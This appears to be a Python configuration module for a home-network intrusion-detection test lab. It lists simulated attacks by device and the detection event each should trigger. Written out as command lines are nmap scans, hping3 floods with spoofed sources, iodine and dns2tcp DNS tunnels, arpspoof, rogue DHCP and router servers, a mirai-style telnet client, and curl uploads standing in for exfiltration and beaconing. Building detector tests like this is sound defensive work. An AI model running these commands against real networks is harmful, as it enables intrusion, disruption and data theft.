"""All attacks: who does what with which tool, and as which kind of event it is to be named."""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Final, NamedTuple

from lab.home import BRIDGE, DEVICES, SITES
from lab.tools import PYTHON

FOLDER: Final = Path(__file__).resolve().parent
#: Addresses on which only attackers have servers; the first is in a network that nobody else goes to.
HERD: Final = "192.0.2.97"
IODINE: Final = "203.0.113.98"
DNS2TCP: Final = "203.0.113.99"
SERVER_ADDRESSES: Final = (HERD, IODINE, DNS2TCP)
#: Inside the tunnel.
TUNNEL: Final = "10.99.0.1"

_WEB: Final = SITES["news.example"].ipv4
_GATEWAY: Final = {"iot": "192.168.20.1", "main": "192.168.10.1"}
_PLUG, _CAMERA, _VACUUM = (DEVICES[name] for name in ("plug", "camera", "vacuum"))
_TV, _LAPTOP, _PHONE = (DEVICES[name] for name in ("tv", "laptop", "phone"))


class Server(NamedTuple):
    """What must run on the lab's internet meanwhile."""

    argv: Sequence[str]
    ready: str
    """What it says when it is there."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack; all command lines are as the lab's tools want them, without a shell."""

    device: str
    """Who does it."""
    kind: str
    """The event that it is to be named as."""
    argv: Sequence[str]
    """What runs on the device; a shell's line where several tools work together."""
    seconds: float
    """How long it takes at most."""
    server: Server | None = None
    victim: tuple[str, Sequence[str]] | None = None
    """Another device, and what it does a little later."""
    subject: str = ""
    """What the event's subject or summary must contain."""
    besides: frozenset[str] = frozenset()
    """Kinds of events of medium severity or above that it may be named as besides."""

    @property
    def kinds(self) -> frozenset[str]:
        """All kinds that it may be named as."""
        return self.besides | {self.kind}


def _words(line: str) -> tuple[str, ...]:
    return tuple(line.split())


def _shell(line: str) -> tuple[str, ...]:
    return ("/bin/sh", "-c", line)


def _client(what: str, port: int, seconds: float = 0.0, address: str = HERD) -> tuple[str, ...]:
    return (PYTHON, "-I", str(FOLDER / "clients.py"), what, address, str(port), str(seconds))


#: A web, telnet, IRC server and more: `{certificate}` and `{key}` are the lab's.
_HERD: Final = Server(
    (PYTHON, "-I", str(FOLDER / "servers.py"), HERD, "{certificate}", "{key}"), "serving"
)
_IODINED: Final = Server(
    _words(f"iodined -f -c -P lab -l {IODINE} -d dnsi {TUNNEL} t.iodine.example"), "Listening"
)
_DNS2TCPD: Final = Server(_words("dns2tcpd -F -d 1 -f {folder}/dns2tcpd.conf"), "Starting Server")
_DNSMASQ: Final = "dnsmasq --no-daemon --conf-file=/dev/null --port=0 --bind-interfaces --user=root"
#: The home's own server of addresses and its router, on the gateway, and how a device asks for an address.
HOME_SERVER: Final = _words(
    f"{_DNSMASQ} --interface={BRIDGE} --dhcp-leasefile={{folder}}/home-leases --enable-ra"
    " --dhcp-range=192.168.20.50,192.168.20.60,1h --dhcp-range=2001:db8:20::,ra-only"
)
ASK: Final = _words("udhcpc -f -n -q -t 5 -T 2 -i eth0 -s /bin/true")
DNS2TCPD_CONF: Final = f"""\
listen = {DNS2TCP}
port = 53
user = nobody
chroot = /tmp
domain = t.dns2tcp.example
resources = web:{_WEB}:80
"""
_SLOW_PORTS: Final = "21,22,23,25,80,81,110,139,143,443,445,554,1883,3306,5000,8080,8443,9100"


def _scan(arguments: str, address: str) -> tuple[str, ...]:
    return _words(f"nmap -n -Pn {arguments} {address}")


def _flood(arguments: str) -> tuple[str, ...]:
    """Return a flood that ends after some seconds."""
    return _words(f"hping3 --quiet {arguments} -i u10 -c 40000 {HERD}")


ATTACKS: Final[Mapping[str, Attack]] = {
    # Scans
    "scan-connect": Attack(
        "camera", "port_scan", _scan("-sT -p 1-300", _VACUUM.ipv4), 20, subject=_VACUUM.ipv4
    ),
    "scan-syn": Attack("plug", "port_scan", _scan("-sS -p 1-300", _WEB), 20, subject=_WEB),
    "scan-udp": Attack(
        "vacuum",
        "port_scan",
        _scan("-sU --max-retries 1 --min-rate 50 -p 1-200", _PLUG.ipv4),
        30,
        subject=_PLUG.ipv4,
    ),
    "scan-slow": Attack(
        "phone", "port_scan", _scan(f"-sS -T1 -p {_SLOW_PORTS}", _TV.ipv4), 300, subject=_TV.ipv4
    ),
    "scan-unhurried": Attack(
        "phone",
        "port_scan",
        _scan(f"-sS --scan-delay 3s -p {_SLOW_PORTS}", _TV.ipv4),
        75,
        subject=_TV.ipv4,
    ),
    "scan-ipv6": Attack(
        "laptop", "port_scan", _scan("-6 -sS -p 1-300", _PHONE.ipv6), 20, subject=_PHONE.ipv6
    ),
    "sweep": Attack("tv", "address_scan", _words("nmap -n -sn 192.168.20.0/24"), 40),
    "sweep-own-segment": Attack(
        "camera", "address_scan", _words("nmap -n -sn 192.168.20.0/24"), 40
    ),
    "sweep-telnet": Attack(
        "phone", "address_scan", _scan("-sS -p 23 --max-retries 0", "203.0.113.128/25"), 40
    ),
    "telnet-bot": Attack(
        "vacuum",
        "forbidden_protocol",
        _client("mirai", 23, 15),
        20,
        _HERD,
        subject="telnet",
    ),
    # Floods, bounded in count
    "flood-syn": Attack("camera", "flood", _flood("-S -p 80"), 30, _HERD),
    "flood-udp": Attack("plug", "flood", _flood("--udp -p 9 -d 64"), 30),
    "flood-icmp": Attack("vacuum", "flood", _flood("--icmp"), 30),
    # Tunnels
    "iodine": Attack(
        "laptop",
        "dns_tunnel",
        _shell(
            f"iodine -f -r -P lab -d dnsc {IODINE} t.iodine.example & iodine=$!;"
            f" sleep 6; ping -q -c 150 -i 0.1 -s 600 {TUNNEL}; kill $iodine; wait"
        ),
        30,
        _IODINED,
        subject="iodine.example",
    ),
    "dns2tcp": Attack(
        "phone",
        "dns_tunnel",
        _shell(
            f"dns2tcpc -z t.dns2tcp.example -r web -l 2222 {DNS2TCP} & client=$!; sleep 1;"
            " curl -sS -m 20 -o /dev/null http://127.0.0.1:2222/bytes/60000; kill $client; wait"
        ),
        30,
        _DNS2TCPD,
        subject="dns2tcp.example",
    ),
    # Protocols
    "stratum": Attack(
        "plug",
        "forbidden_protocol",
        _client("stratum", 3333, address=SITES["pool.mining.example"].ipv4),
        8,
        subject="stratum",
    ),
    **{
        name: Attack(device, "forbidden_protocol", _client(name, port), 15, _HERD, subject=subject)
        for name, device, port, subject in (
            ("monero", "tv", 3333, "stratum"),
            ("ethereum", "camera", 8443, "stratum"),
            ("irc", "vacuum", 6667, "irc"),
            ("tor", "laptop", 9001, "tor"),
            ("socks", "phone", 1080, "socks"),
            ("bittorrent", "tv", 6881, "bittorrent"),
            ("smb", "laptop", 445, "smb"),
            ("telnet", "camera", 23, "telnet"),
        )
    },
    # On the own network
    "arpspoof": Attack(
        "plug",
        "address_conflict",
        _words(f"timeout 12 arpspoof -i eth0 -t {_CAMERA.ipv4} {_GATEWAY['iot']}"),
        20,
    ),
    "second-dhcp": Attack(
        "vacuum",
        "rogue_dhcp",
        _words(
            f"timeout 15 {_DNSMASQ} --interface=eth0 --dhcp-leasefile={{folder}}/leases --dhcp-authoritative"
            " --dhcp-range=192.168.20.100,192.168.20.120,1h"
        ),
        20,
        victim=("plug", ASK),
    ),
    "second-router": Attack(
        "tv",
        "rogue_dhcp",
        _words(
            f"timeout 15 {_DNSMASQ} --interface=eth0 --dhcp-leasefile={{folder}}/leases6 --enable-ra"
            " --ra-param=eth0,high,4 --dhcp-range=2001:db8:10::,ra-only"
        ),
        20,
    ),
    # Habits
    "exfiltration": Attack(
        "plug",
        "volume_anomaly",
        _shell(
            "head -c 200000000 /dev/zero | curl -sS -m 60 --limit-rate 25M --cacert {certificate} -X POST -T -"
            f" --resolve shop.example:443:{_WEB} https://shop.example/upload"
        ),
        60,
    ),
    "beacon": Attack(
        "vacuum", "beacon", _client("beacon", 80, 95), 105, _HERD, subject="cdn-sync.example"
    ),
    "burst": Attack(
        "tv", "connection_burst", _client("burst", 80, 20), 25, _HERD, besides=frozenset(("flood",))
    ),
    "stranger": Attack(
        "camera",
        "unexpected_destination",
        _words(
            f"curl -sS -m 5 -o /dev/null --data-binary hello --resolve gate.example:8080:{HERD}"
            " http://gate.example:8080/upload"
        ),
        10,
        _HERD,
        subject="gate.example",
    ),
    "leaving": Attack(
        "phone",
        "local_device_on_internet",
        _words(f"curl -sS -m 5 -o /dev/null http://{_WEB}/bytes/1000"),
        10,
    ),
    "spoofed-source": Attack(
        "camera",
        "segment_crossing",
        _words(f"hping3 --quiet -S -p 80 --rand-source -i u100000 -c 20 {HERD}"),
        10,
        _HERD,
    ),
}
